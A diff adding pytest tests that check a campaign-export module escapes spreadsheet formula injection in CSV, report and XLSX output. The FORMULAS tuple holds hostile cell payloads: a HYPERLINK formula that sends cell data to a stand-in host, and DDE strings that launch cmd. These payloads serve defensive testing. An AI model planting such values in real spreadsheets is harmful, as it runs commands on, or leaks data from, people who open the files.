@@ -35,3 +35,72 @@ def test_an_unknown_suffix_is_refused_before_writing(tmp_path):
     with pytest.raises(ValueError, match="give a .csv or .xlsx file name"):
         campaigns.write_rows(listed(), tmp_path / "list.json")
     assert list(tmp_path.iterdir()) == []
+
+
+# Text that a spreadsheet runs as a formula (OWASP "CSV injection"), as an export could spell a country.
+FORMULAS = ('=HYPERLINK("http://x/?"&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+HARMLESS = ("United Kingdom", "http://x.example/", "", "'already quoted")
+
+
+def hostile() -> pd.DataFrame:
+    """Ten campaign rows whose countries are the payloads and harmless texts; one spend is negative."""
+    rows = pd.concat([listed()] * 3, ignore_index=True).iloc[:len(FORMULAS) + len(HARMLESS)].copy()
+    rows["country"] = FORMULAS + HARMLESS
+    rows.loc[0, "spend"] = -12.5
+    return rows
+
+
+def test_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
+    out = campaigns.spreadsheet_safe(pd.DataFrame({"text": [*FORMULAS, *HARMLESS, None],
+                                                   "number": [-2.5] * (len(FORMULAS) + len(HARMLESS) + 1)}))
+    assert list(out["text"][:-1]) == ["'" + f for f in FORMULAS] + list(HARMLESS)
+    assert pd.isna(out["text"].iloc[-1])
+    assert out["number"].dtype == float and (out["number"] == -2.5).all()
+
+
+def test_a_csv_quotes_every_formula(tmp_path):
+    import csv
+
+    campaigns.write_rows(hostile(), tmp_path / "list.csv")
+    with open(tmp_path / "list.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["country"] for r in rows] == ["'" + f for f in FORMULAS] + list(HARMLESS)
+    assert rows[0]["spend_gbp"] == "-12.5"  # a number, not "'-12.5"
+    assert (tmp_path / "list.csv").read_bytes().decode() == campaigns.csv_text(hostile())  # the downloads'
+
+
+def test_a_carriage_return_inside_a_cell_does_not_start_a_row(tmp_path):
+    import csv
+
+    rows = hostile().assign(country="United Kingdom\r=1+1")
+    campaigns.write_rows(rows, tmp_path / "list.csv")
+    with open(tmp_path / "list.csv", newline="", encoding="utf-8") as fh:
+        read = list(csv.reader(fh))
+    assert len(read) == len(rows) + 1 and {r[5] for r in read[1:]} == {"United Kingdom\r=1+1"}
+
+
+def test_the_reports_files_quote_every_formula(tmp_path):
+    rows = listed().assign(country=FORMULAS[0])
+    campaigns.write_for_report(rows, tmp_path, "x")
+    for path in tmp_path.iterdir():
+        assert set(pd.read_csv(path)["country"]) == {"'" + FORMULAS[0]}
+
+
+def test_a_workbook_holds_formulas_as_text_never_as_formulas(tmp_path):
+    import re
+    import zipfile
+
+    path = campaigns.write_rows(hostile(), tmp_path / "list.xlsx")
+    with zipfile.ZipFile(path) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        names = book.namelist()
+    assert "<f>" not in sheet and "<f " not in sheet  # no cell is a formula (openpyxl's data_type "f")
+    assert "<hyperlink" not in sheet and not any("worksheets/_rels" in n for n in names)  # nor a link
+    country = list(campaigns.FILE_COLUMNS.values()).index("country")
+    column = chr(ord("A") + country)
+    cells = re.findall(rf'<c r="{column}(\d+)"([^>]*)>', sheet)
+    assert all('t="s"' in attrs for row, attrs in cells if row != "1" and int(row) <= len(FORMULAS) + 1)
+    read = pd.read_excel(path, engine="calamine", keep_default_na=False)
+    assert list(read["country"][:len(FORMULAS)]) == ["'" + f for f in FORMULAS]
+    assert read["spend_gbp"][0] == -12.5
